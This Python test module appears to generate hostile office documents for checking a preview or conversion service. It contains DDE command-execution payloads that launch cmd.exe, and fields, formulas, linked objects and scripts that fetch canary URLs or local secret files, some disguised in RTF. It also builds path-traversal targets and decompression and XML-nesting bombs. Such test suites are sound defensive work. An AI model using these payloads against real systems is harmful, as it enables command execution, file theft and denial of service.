"""Office files that name other files: pictures, templates, fields, links of objects and sheets, drawings, media."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from tests.previews import papers
from tests.previews.hostile import pictures
from tests.previews.hostile.archives import changed, open_document, part, sound
from tests.previews.hostile.canary import Canary
from tests.previews.hostile.files import READY, SOUND, Files

FILES = Files()
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SAID = f"<w:p><w:r><w:t>{SOUND}</w:t></w:r></w:p>"


def bad(kind: str, *ends: str, **how: object) -> Callable[..., object]:
    """Decorates a function that makes a file's bytes."""

    def added(make: Callable[[Canary], bytes]) -> Callable[[Canary], bytes]:
        FILES.put(make.__name__, kind, lambda path, canary: path.write_bytes(make(canary)), *ends, **how)
        return make

    return added


def targets(canary: Canary, name: str) -> tuple[str, ...]:
    """One file by every name that it has."""
    return (canary.url(name), canary.file(name), str(canary.path(name)), f"../../../../../../../../../..{canary.path(name)}")


def related(kind: str, name: str, *relations: str) -> str:
    """A part's relations, and these as well."""
    return part(kind, name).replace("</Relationships>", "".join(relations) + "</Relationships>")


def within(id: str, type: str, target: str) -> str:
    return f'<Relationship Id="{id}" Type="{_OFFICE}/{type}" Target="{target}"/>'


def word(xml: str, *relations: str, parts: Mapping[str, bytes | str] | None = None, types: str = "") -> bytes:
    """A DOCX that says SOUND, then `xml`."""
    listed = part("docx", "[Content_Types].xml").replace("</Types>", f"{types}</Types>")
    return changed(
        "docx",
        {
            "[Content_Types].xml": listed,
            "word/document.xml": papers.body(_SAID + xml),
            "word/_rels/document.xml.rels": related("docx", "word/_rels/document.xml.rels", *relations),
            **(parts or {}),
        },
    )


def field(instruction: str, *, pieces: int = 1) -> str:
    """A field without a result, its instruction in one piece or in several."""
    escaped = instruction.replace("&", "&amp;").replace('"', "&quot;")
    step = -(-len(instruction) // pieces)
    cut = (
        [escaped]
        if pieces == 1
        else [instruction[at : at + step].replace('"', "&quot;") for at in range(0, len(instruction), step)]
    )
    told = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in cut)
    marks = [f'<w:r><w:fldChar w:fldCharType="{mark}" w:dirty="true"/></w:r>' for mark in ("begin", "separate", "end")]
    return f"<w:p>{marks[0]}{told}{marks[1]}{marks[2]}</w:p>"


def _instructions(canary: Canary) -> list[str]:
    document, picture = canary.path("secret.docx"), canary.path("secret.png")
    return [
        f'INCLUDETEXT "{document}"',
        f'INCLUDETEXT "{canary.file()}"',
        f'INCLUDETEXT "{canary.url("secret.docx")}"',
        f'INCLUDEPICTURE "{canary.url()}" \\d',
        f'INCLUDEPICTURE "{picture}" \\d \\* MERGEFORMATINET',
        f"INCLUDEPICTURE {canary.file('secret.png')}",
        f'INCLUDE "{canary.path()}"',
        f'IMPORT "{picture}"',
        f'DDEAUTO soffice "{canary.path("secret.xlsx")}" A1',
        'DDE "cmd.exe" "/c calc" ""',
        f'LINK Excel.Sheet.12 "{canary.path("secret.xlsx")}" "Sheet1!R1C1" \\a \\t',
        f'RD "{document}"',
        f'DATABASE \\d "{canary.path("secret.csv")}" \\s "SELECT * FROM secret"',
    ]


@bad("docx", READY, says=SOUND, leads_out=True)
def fields_that_fetch(canary: Canary) -> bytes:
    simple = "".join(f"<w:p><w:fldSimple w:instr='{it.replace('&', '&amp;')}'/></w:p>" for it in _instructions(canary))
    whole = "".join(field(f" {it} ") for it in _instructions(canary))
    cut = "".join(field(f"\t{it.lower()} ", pieces=7) for it in _instructions(canary))
    return word(simple + whole + cut)


@bad("docx", READY, says=SOUND, leads_out=True)
def fields_in_headers_and_notes(canary: Canary) -> bytes:
    header = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    fields = "".join(map(field, _instructions(canary)))
    return word(
        '<w:sectPr><w:headerReference w:type="default" r:id="h1"/></w:sectPr>',
        within("h1", "header", "header1.xml"),
        parts={"word/header1.xml": f'<w:hdr xmlns:w="{header}">{fields}</w:hdr>'},
        types=(
            '<Override PartName="/word/header1.xml"'
            ' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>'
        ),
    )


def _shown(id: str) -> str:
    """A drawing and an older shape whose picture is linked."""
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="2000000" cy="2000000"/><wp:docPr id="1" name="a"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        '<pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:link="{id}" r:embed="{id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="2000000" cy="2000000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
        f'</w:r></w:p><w:p><w:r><w:pict><v:shape style="width:99pt;height:99pt"><v:imagedata r:id="{id}" r:href="{id}"/></v:shape>'
        "</w:pict></w:r></w:p>"
    )


@bad("docx", READY, says=SOUND, leads_out=True, quick=True)
def pictures_from_elsewhere(canary: Canary) -> bytes:
    ids = [f"x{n}" for n in range(4)]
    relations = [papers.outside(id, "image", target) for id, target in zip(ids, targets(canary, "secret.png"), strict=True)]
    bare = [it.replace("x", "y", 1).replace(' TargetMode="External"', "").replace('Id="x', 'Id="y') for it in relations]
    shapes = (
        f'<w:p><w:r><w:pict><v:shape style="width:99pt;height:99pt"><v:imagedata'
        f' src="{canary.file("secret.png")}"/></v:shape></w:pict></w:r></w:p>'
    )
    return word("".join(map(_shown, ids)) + "".join(_shown(f"y{n}") for n in range(4)) + shapes, *relations, *bare)


@bad("docx", READY, says=SOUND, leads_out=True)
def templates_frames_and_sources_from_elsewhere(canary: Canary) -> bytes:
    """A template, a list of addresses, a master's chapters, whole files put in their place."""
    settings = part("docx", "word/settings.xml")
    at = settings.index(">", settings.index("<w:settings")) + 1
    merge = '<w:attachedTemplate r:id="t"/><w:mailMerge><w:dataType w:val="textFile"/><w:dataSource r:id="d"/></w:mailMerge>'
    spaced = (
        settings[:at].replace("<w:settings", f'<w:settings xmlns:r="{_OFFICE}"')
        if "xmlns:r=" not in settings[:at]
        else settings[:at]
    )
    return word(
        '<w:subDoc r:id="s"/><w:altChunk r:id="c"/><w:altChunk r:id="u"/>',
        papers.outside("s", "subDocument", canary.file("secret.docx")),
        papers.outside("c", "aFChunk", canary.file("secret.html")),
        papers.outside("u", "aFChunk", canary.url("secret.html")),
        parts={
            "word/settings.xml": spaced + merge + settings[at:],
            "word/_rels/settings.xml.rels": papers.relations(
                papers.outside("t", "attachedTemplate", canary.url("t.dotm")),
                papers.outside("d", "mailMergeSource", canary.file("secret.csv")),
            ),
        },
    )


@bad("docx", READY, says=SOUND, leads_out=True)
def documents_within_documents(canary: Canary) -> bytes:
    """Parts in another format, which our cleaning of the first one doesn't touch."""
    html = f'<html><body><p>a</p><img src="{canary.url()}"/><img src="{canary.file("secret.png")}"/></body></html>'
    rtf = f'{{\\rtf1 {{\\field{{\\*\\fldinst INCLUDETEXT "{canary.path("secret.docx")}"}}{{\\fldrslt }}}}}}'
    inner = word("".join(map(field, _instructions(canary))) + _shown("z"), papers.outside("z", "image", canary.url()))
    chunks = {"c.html": html, "c.rtf": rtf, "c.docx": inner}
    types = (
        ("html", "text/html"),
        ("rtf", "application/rtf"),
        ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    )
    return word(
        "".join(f'<w:altChunk r:id="c{n}"/>' for n in range(3)),
        *[within(f"c{n}", "aFChunk", name) for n, name in enumerate(chunks)],
        parts={f"word/{name}": content for name, content in chunks.items()},
        types="".join(f'<Default Extension="{ending}" ContentType="{type}"/>' for ending, type in types),
    )


@bad("docx", READY, says=SOUND, leads_out=True)
def objects_linked_and_embedded(canary: Canary) -> bytes:
    shown = (
        '<w:p><w:r><w:object><v:shape id="s{0}" style="width:99pt;height:99pt"><v:imagedata r:id="{0}"/></v:shape>'
        '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="{1}" ProgID="Word.Document.12" ShapeID="s{0}"'
        ' DrawAspect="Content" ObjectID="_1" r:id="{0}" UpdateMode="Always"/></w:object></w:r></w:p>'
    )
    inner = word("".join(map(field, _instructions(canary))))
    return word(
        shown.format("l", "Link") + shown.format("e", "Embed") + shown.format("m", "Link"),
        papers.outside("l", "oleObject", canary.file("secret.docx")),
        papers.outside("m", "oleObject", canary.url("secret.docx")),
        within("e", "package", "embeddings/inner.docx"),
        parts={"word/embeddings/inner.docx": inner},
        types='<Default Extension="docx" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document"/>',
    )


@bad("docx", READY, "damaged", leads_out=True)
def drawings_of_files(canary: Canary) -> bytes:
    return word(
        _shown("d") + _shown("e"),
        within("d", "image", "media/a.svg"),
        within("e", "image", "media/b.svg"),
        parts={"word/media/a.svg": pictures.links_to(canary), "word/media/b.svg": pictures.drawing_that_reads(canary)},
        types='<Default Extension="svg" ContentType="image/svg+xml"/>',
    )


@bad("docx", READY, "too_slow", "too_complex", seconds=8)
def a_drawing_of_ten_thousand_million_parts(_: Canary) -> bytes:
    svg = pictures.drawing_that_laughs()
    types = '<Default Extension="svg" ContentType="image/svg+xml"/>'
    return word(_shown("d"), within("d", "image", "media/a.svg"), parts={"word/media/a.svg": svg}, types=types)


@bad("docx", READY, "too_slow", "too_complex", says=SOUND)
def a_picture_of_a_million_million_pixels(_: Canary) -> bytes:
    huge = pictures.png(1_000_000, 1_000_000, pictures.ROWS)
    return word(
        _shown("d"),
        within("d", "image", "media/a.png"),
        parts={"word/media/a.png": huge},
        types='<Default Extension="png" ContentType="image/png"/>',
    )


@bad("docx", "too_slow", READY, "damaged", "too_complex", seconds=8)
def deep_tables(_: Canary) -> bytes:
    return changed(
        "docx", {"word/document.xml": papers.body("<w:tbl><w:tr><w:tc>" * 2_000 + "<w:p/></w:tc></w:tr></w:tbl>" * 2_000)}
    )


@bad("docx", READY, "damaged", "too_slow", "too_complex", seconds=20)
def deep_xml(_: Canary) -> bytes:
    return changed("docx", {"word/document.xml": papers.body("<w:p><w:r>" * 100_000 + "</w:r></w:p>" * 100_000)})


@bad("docx", READY, "too_slow", "too_complex", seconds=8)
def a_table_of_many_cells(_: Canary) -> bytes:
    row = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 60 + "</w:tr>"
    return changed("docx", {"word/document.xml": papers.body("<w:tbl>" + row * 20_000 + "</w:tbl>")})


@bad("docx", READY, "damaged")
def styles_in_a_ring(_: Canary) -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    ring = "".join(
        f'<w:style w:type="paragraph" w:styleId="{one}"><w:name w:val="{one}"/><w:basedOn w:val="{other}"/></w:style>'
        for one, other in (("A", "B"), ("B", "A"))
    )
    used = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>文</w:t></w:r></w:p>'
    return changed(
        "docx", {"word/styles.xml": f'<w:styles xmlns:w="{space}">{ring}</w:styles>', "word/document.xml": papers.body(used)}
    )


@bad("pptx", READY, says=SOUND, leads_out=True)
def slides_that_show_files(canary: Canary) -> bytes:
    """Pictures, films, sounds and objects from elsewhere, and actions that start when a slide is shown."""
    name = "ppt/slides/slide1.xml"
    slide = part("pptx", name)
    types = ("image", "video", "audio", "media", "oleObject", "slide")
    outside = [papers.outside(f"x{n}{t}", t, target) for t in types for n, target in enumerate(targets(canary, "secret.png"))]
    pics = "".join(
        f'<p:pic><p:nvPicPr><p:cNvPr id="{90 + n}" name="a"><a:hlinkClick r:id="x{n}slide" action="ppaction://program"/></p:cNvPr>'
        f'<p:cNvPicPr/><p:nvPr><a:videoFile r:link="x{n}video"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link="x{n}image"/>'
        '<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext'
        ' cx="3000000" cy="3000000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
        for n in range(4)
    )
    made = slide.replace("</p:spTree>", f"{pics}</p:spTree>")
    rels = "ppt/slides/_rels/slide1.xml.rels"
    return changed("pptx", {name: made, rels: related("pptx", rels, *outside)})


def _workbook(
    sheet: str, *, parts: Mapping[str, bytes | str] | None = None, relations: str = "", more: str = "", types: str = ""
) -> bytes:
    """A workbook of one sheet with these cells below the one that says SOUND."""
    said = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{SOUND}</t></is></c></row>'
    book = part("xlsx", "xl/workbook.xml").replace("</sheets>", f"</sheets>{more}")
    return changed(
        "xlsx",
        {
            "xl/worksheets/sheet1.xml": sheet
            if sheet.startswith("<?")
            else f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}"><sheetData>{said}{sheet}</sheetData></worksheet>',
            "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": part("xlsx", "xl/_rels/workbook.xml.rels").replace(
                "</Relationships>", f"{relations}</Relationships>"
            ),
            "[Content_Types].xml": part("xlsx", "[Content_Types].xml").replace("</Types>", f"{types}</Types>"),
            **(parts or {}),
        },
    )


@bad("xlsx", READY, says=SOUND, leads_out=True, quick=False)
def formulas_that_fetch(canary: Canary) -> bytes:
    """Without results, so that whoever reads them has to work them out."""
    formulas = [
        f'_xlfn.WEBSERVICE("{canary.url()}")',
        f'WEBSERVICE("{canary.file()}")',
        f'_xlfn.FILTERXML(_xlfn.WEBSERVICE("{canary.file("secret.xml")}"),"//a")',
        f"'{canary.folder}/[secret.xlsx]Sheet1'!A1",
        f"'{canary.file('secret.xlsx')}'#$Sheet1.A1",
        "[1]Sheet1!A1",
        "[2]!A1",
        f'DDE("soffice","{canary.path("secret.xlsx")}","Sheet1.A1")',
        "cmd|'/C calc'!A0",
        f'_xlfn.IMAGE("{canary.url()}")',
        f'HYPERLINK("{canary.url()}","a")',
        f"INDIRECT(\"'{canary.file('secret.xlsx')}'#$Sheet1.A1\")",
        'CELL("filename")&INFO("directory")',
    ]
    escaped = [formula.replace("&", "&amp;").replace('"', "&quot;") for formula in formulas]
    rows = "".join(f'<row r="{n}"><c r="A{n}"><f ca="1">{formula}</f></c></row>' for n, formula in enumerate(escaped, 2))
    link = (
        f'<externalLink xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><externalBook r:id="rId1"><sheetNames><sheetName'
        f' val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    dde = (
        f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="soffice"'
        f' ddeTopic="{canary.path("secret.xlsx")}"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems>'
        f"</ddeLink></externalLink>"
    )
    connections = (
        f'<connections xmlns="{_MAIN}"><connection id="1" name="a" type="4" refreshedVersion="3" refreshOnLoad="1">'
        f'<webPr sourceData="1" url="{canary.url()}"/></connection></connections>'
    )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return _workbook(
        rows,
        parts={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": papers.relations(
                papers.outside("rId1", "externalLinkPath", canary.file("secret.xlsx"))
            ),
            "xl/externalLinks/externalLink2.xml": dde,
            "xl/connections.xml": connections,
        },
        relations=within("e1", "externalLink", "externalLinks/externalLink1.xml")
        + within("e2", "externalLink", "externalLinks/externalLink2.xml")
        + within("c1", "connections", "connections.xml"),
        more=f'<externalReferences xmlns:r="{_OFFICE}"><externalReference r:id="e1"/><externalReference'
        f' r:id="e2"/></externalReferences>',
        types="".join(
            f'<Override PartName="/xl/externalLinks/externalLink{n}.xml" ContentType="{kind}.externalLink+xml"/>' for n in (1, 2)
        )
        + f'<Override PartName="/xl/connections.xml" ContentType="{kind}.connections+xml"/>',
    )


@bad("xlsx", READY, "too_slow", "too_complex", says=SOUND, seconds=30)
def a_cell_in_the_last_corner(_: Canary) -> bytes:
    return _workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@bad("xlsx", READY, "too_slow", "too_complex", says=SOUND, seconds=10)
def a_merged_cell_over_everything(_: Canary) -> bytes:
    said = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{SOUND}</t></is></c></row>'
    merged = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return _workbook(f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}"><sheetData>{said}</sheetData>{merged}</worksheet>')


@bad("xlsx", READY, "too_slow", "too_complex", seconds=8)
def formulas_that_grow(_: Canary) -> bytes:
    rows = '<row r="2"><c r="A2" t="str"><f>REPT("字",30000)</f></c></row>'
    rows += "".join(
        f'<row r="{n}"><c r="A{n}"><f>A{n - 1}&amp;A{n - 1}</f></c><c r="B{n}"><f>SUMPRODUCT(A1:A1048576*1)</f></c></row>'
        for n in range(3, 60)
    )
    return _workbook(rows)


@bad("xlsx", READY, "too_slow", "too_complex", "damaged", says="", seconds=20)
def a_million_cells(_: Canary) -> bytes:
    return _workbook("".join(f'<row r="{r}">' + "<c><v>1</v></c>" * 100 + "</row>" for r in range(2, 10_002)))


@bad("odt", READY, says=SOUND, leads_out=True)
def links_in_a_text(canary: Canary) -> bytes:
    """By every attribute that OpenDocument has for it."""
    shown = "".join(
        '<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char">'
        f'<draw:{element} xlink:href="{target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
        f"</draw:frame></text:p>"
        for element, name in (
            ("image", "secret.png"),
            ("object", "secret.docx"),
            ("object-ole", "secret.docx"),
            ("floating-frame", "secret.html"),
            ("plugin", "secret.html"),
        )
        for target in targets(canary, name)
    )
    sections = "".join(
        f'<text:section text:name="s{n}"><text:section-source xlink:href="{target}" xlink:type="simple"/><text:p/></text:section>'
        for n, target in enumerate(targets(canary, "secret.docx"))
    )
    dde = (
        f'<text:section text:name="d"><office:dde-source office:dde-application="soffice"'
        f' office:dde-topic="{canary.path("secret.xlsx")}"'
        ' office:dde-item="Sheet1.A1" office:automatic-update="true"/><text:p/></text:section>'
    )
    declared = (
        f'<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice"'
        f' office:dde-topic="{canary.path("secret.xlsx")}"'
        ' office:dde-item="Sheet1.A1" office:automatic-update="true"/></text:dde-connection-decls>'
    )
    fields = (
        f'<text:p><text:dde-connection text:connection-name="d"/><text:script script:language="x"'
        f' xlink:href="{canary.url("a.js")}"/><text:file-name text:display="full"/></text:p>'
    )
    body = f"<office:text>{declared}<text:p>{SOUND}</text:p>{shown}{sections}{dde}{fields}</office:text>"
    listener = (
        f'<office:event-listeners><script:event-listener script:language="ooo:script"'
        f' script:event-name="dom:load" xlink:href="{canary.url("macro")}"/></office:event-listeners>'
    )
    style = (
        '<office:automatic-styles><style:page-layout style:name="p"><style:page-layout-properties>'
        f'<style:background-image xlink:href="{canary.file("secret.png")}"/></style:page-layout-properties>'
        f"</style:page-layout></office:automatic-styles>"
    )
    faces = (
        f'<office:font-face-decls><style:font-face style:name="f" svg:font-family="f"><svg:font-face-src>'
        f'<svg:font-face-uri xlink:href="{canary.url("f.ttf")}"/></svg:font-face-src></style:font-face>'
        f"</office:font-face-decls>"
    )
    meta = (
        f'<office:document-meta {SPACES_META} office:version="1.3"><office:meta><meta:template'
        f' xlink:href="{canary.url("t.ott")}"/><meta:auto-reload xlink:href="{canary.url("r.odt")}"'
        f' meta:delay="PT0S"/></office:meta></office:document-meta>'
    )
    return open_document("odt", body, before=f"<office:scripts>{listener}</office:scripts>{faces}{style}", parts={"meta.xml": meta})


SPACES_META = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink"'
)


@bad("odt", READY, says=SOUND, leads_out=True)
def forms_that_load(canary: Canary) -> bytes:
    """XForms have their data and their answers elsewhere; forms have databases."""
    models = "".join(
        f'<xforms:model id="m{n}" schema="{target}"><xforms:instance id="i{n}" src="{target}"/>'
        f'<xforms:submission id="s{n}" action="{target}" method="get" bind="b{n}"/></xforms:model>'
        for n, target in enumerate(targets(canary, "secret.xml"))
    )
    shown = "".join(
        f'<form:form form:name="f{n}" xlink:href="{target}" form:apply-filter="true" form:command-type="table"'
        f' form:command="secret"'
        f' form:datasource="{target}"><form:image-frame form:name="i{n}" form:id="i{n}" form:image-data="{target}"/>'
        f'<form:connection-resource xlink:href="{target}"/></form:form>'
        for n, target in enumerate(targets(canary, "secret.png"))
    )
    body = (
        f'<office:text><office:forms form:automatic-focus="false">{shown}{models}</office:forms><text:p>'
        f"{SOUND}</text:p></office:text>"
    )
    return open_document("odt", body)


@bad("odp", READY, says=SOUND, leads_out=True)
def links_in_slides(canary: Canary) -> bytes:
    shown = "".join(
        f'<draw:frame svg:x="1cm" svg:y="5cm" svg:width="5cm" svg:height="5cm"><draw:{element}'
        f' xlink:href="{target}" xlink:type="simple"'
        ' xlink:actuate="onLoad"/></draw:frame>'
        for element in ("image", "plugin", "object", "floating-frame")
        for target in targets(canary, "secret.png")
    )
    said = (
        f'<draw:frame svg:x="1cm" svg:y="1cm" svg:width="9cm" svg:height="3cm"><draw:text-box><text:p>'
        f"{SOUND}</text:p></draw:text-box></draw:frame>"
    )
    sound_link = (
        f'<office:event-listeners><presentation:event-listener script:event-name="dom:click"'
        f' presentation:action="execute" xlink:href="{canary.url("x")}"/></office:event-listeners>'
    )
    body = (
        f'<office:presentation><draw:page draw:name="1" xlink:href="{canary.url("page.odp")}">'
        f'{said}{shown}<draw:rect svg:width="1cm" svg:height="1cm">{sound_link}</draw:rect></draw:page>'
        f"</office:presentation>"
    )
    return open_document("odp", body)


def _table(rows: str, *, before: str = "") -> str:
    said = (
        f'<table:table-row><table:table-cell office:value-type="string"><text:p>{SOUND}</text:p>'
        f"</table:table-cell></table:table-row>"
    )
    return f'<office:spreadsheet><table:table table:name="1">{before}{said}{rows}</table:table></office:spreadsheet>'


@bad("ods", READY, says=SOUND, leads_out=True)
def links_in_sheets(canary: Canary) -> bytes:
    formulas = [
        f'of:=WEBSERVICE("{canary.url()}")',
        f'of:=COM.MICROSOFT.WEBSERVICE("{canary.url()}")',
        f'of:=COM.MICROSOFT.WEBSERVICE("{canary.file()}")',
        f'msoxl:=_xlfn.WEBSERVICE("{canary.url()}")',
        f"of:='{canary.file('secret.xlsx')}'#$Sheet1.A1",
        f"of:=['{canary.file('secret.xlsx')}'#$Sheet1.A1]",
        f"of:=INDIRECT(\"'{canary.file('secret.xlsx')}'#$Sheet1.A1\")",
        f'of:=DDE("soffice";"{canary.path("secret.xlsx")}";"Sheet1.A1")',
    ]
    escaped = [formula.replace("&", "&amp;").replace('"', "&quot;") for formula in formulas]
    rows = "".join(f'<table:table-row><table:table-cell table:formula="{formula}"/></table:table-row>' for formula in escaped)
    rows += "".join(
        f'<table:table-row><table:table-cell><table:cell-range-source table:name="Sheet1" xlink:href="{target}"'
        f' table:filter-name="Calc MS Excel 2007 XML"'
        ' table:last-column-spanned="1" table:last-row-spanned="1" table:refresh-delay="PT1S"/>'
        "</table:table-cell></table:table-row>"
        for target in targets(canary, "secret.xlsx")
    )
    source = (
        f'<table:table-source xlink:href="{canary.file("secret.xlsx")}" table:table-name="Sheet1"'
        f' table:mode="copy-all" table:refresh-delay="PT1S"/>'
    )
    return open_document("ods", _table(rows, before=source))


@bad("ods", READY, "too_slow", "too_complex", says=SOUND, seconds=10)
def cells_repeated_without_end(_: Canary) -> bytes:
    cell = (
        '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>a</text:p></table:table-cell>'
    )
    return open_document("ods", _table(f'<table:table-row table:number-rows-repeated="1048575">{cell}</table:table-row>'))


@bad("ods", READY, "too_slow", "too_complex", "damaged", says=SOUND, seconds=10)
def formulas_repeated_without_end(_: Canary) -> bytes:
    cell = '<table:table-cell table:number-columns-repeated="1024" table:formula="of:=SUM([.A1:.A1048576])"/>'
    return open_document("ods", _table(f'<table:table-row table:number-rows-repeated="1048575">{cell}</table:table-row>'))


@bad("odt", READY, says=SOUND)
def spaces_repeated_without_end(_: Canary) -> bytes:
    return open_document("odt", f'<office:text><text:p>{SOUND}<text:s text:c="2000000000"/>a</text:p></office:text>')


@bad("odt", READY, "damaged", "too_slow", "too_complex", seconds=15)
def sections_within_sections(_: Canary) -> bytes:
    return open_document(
        "odt", "<office:text>" + "<text:section>" * 20_000 + "<text:p/>" + "</text:section>" * 20_000 + "</office:text>"
    )


def rich(*groups: str) -> bytes:
    said = "".join(f"\\u{ord(letter)}?" for letter in SOUND)
    return f"{{\\rtf1\\ansi {said}\\par {''.join(groups)}}}".encode()


@bad("rtf", READY, says=SOUND, leads_out=True)
def rich_text_that_fetches(canary: Canary) -> bytes:
    """Fields, a template, objects that update themselves, files in the place of pages."""
    fields = "".join(
        f"{{\\field\\flddirty{{\\*\\fldinst {{ {it} }}}}{{\\fldrslt x}}}}"
        for it in (one.replace("\\", "\\\\") for one in _instructions(canary))
    )
    template = f"{{\\*\\template {canary.url('t.dotm')}}}"
    linked = "{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document}{\\*\\objdata 0105000002000000}{\\result x}}"
    merged = f"{{\\*\\mailmerge{{\\mmdatasource {canary.path('secret.csv')}}}}}"
    files = f"{{\\*\\nextfile {canary.path('secret.rtf')}}}{{\\*\\datafield {canary.url()}}}{merged}"
    return rich(template, fields, linked, files)


@bad("rtf", READY, says=SOUND, leads_out=True)
def rich_text_in_disguise(canary: Canary) -> bytes:
    """The same words, cut by groups and written as numbers."""
    one, two = f'"{canary.path("secret.docx")}"', f'"{canary.path("secret.png")}" \\\\d'
    return rich(
        f"{{\\field{{\\*\\fldinst {{INCLUDE}}{{\\b TEXT {one}}}}}{{\\fldrslt x}}}}",
        f"{{\\field{{\\*\\fldinst \\'49NCLUDEPICTURE {two}}}{{\\fldrslt x}}}}",
        f"{{\\field{{\\*\\fldinst I\\u78?CLUDETEXT {one}}}{{\\fldrslt x}}}}",
        f"{{\\field{{\\*\\fldinst INCLUDE\nPICTURE {two}}}{{\\fldrslt x}}}}",
        f"{{\\field{{\\*\\fldinst {{\\field{{\\*\\fldinst QUOTE INCLUDETEXT}}{{\\fldrslt INCLUDETEXT}}}} {one}}}{{\\fldrslt x}}}}",
    )


@bad("rtf", READY, "damaged", "too_slow", "too_complex", seconds=15)
def groups_within_groups(_: Canary) -> bytes:
    return rich("{" * 500_000, "}" * 500_000)


@bad("rtf", READY, "too_slow", "too_complex", "damaged", says=SOUND, seconds=20)
def a_picture_that_never_begins(_: Canary) -> bytes:
    return rich("{\\pict\\pngblip\\picw9999999\\pich9999999 " + "00" * 5_000_000 + "}", "{\\bin2000000000 x}")


def _put_wrong() -> None:
    html = b"<html><body><img src='http://127.0.0.1:9/x.png'><p>a</p></body></html>"
    for kind in ("doc", "xls", "ppt", "rtf", "wps"):
        FILES.put("a_page_renamed", kind, lambda path, _: path.write_bytes(html), "damaged", quick=kind == "doc")
        FILES.put("no_bytes", kind, lambda path, _: path.write_bytes(b""), "empty")
    FILES.put("a_book_renamed", "docx", lambda path, _: path.write_bytes(sound("epub")), "not_supported")
    FILES.put("a_sheet_renamed", "docx", lambda path, _: path.write_bytes(sound("xlsx")), "not_supported")
    FILES.put("a_text_renamed", "ods", lambda path, _: path.write_bytes(sound("odt")), "not_supported")


_put_wrong()
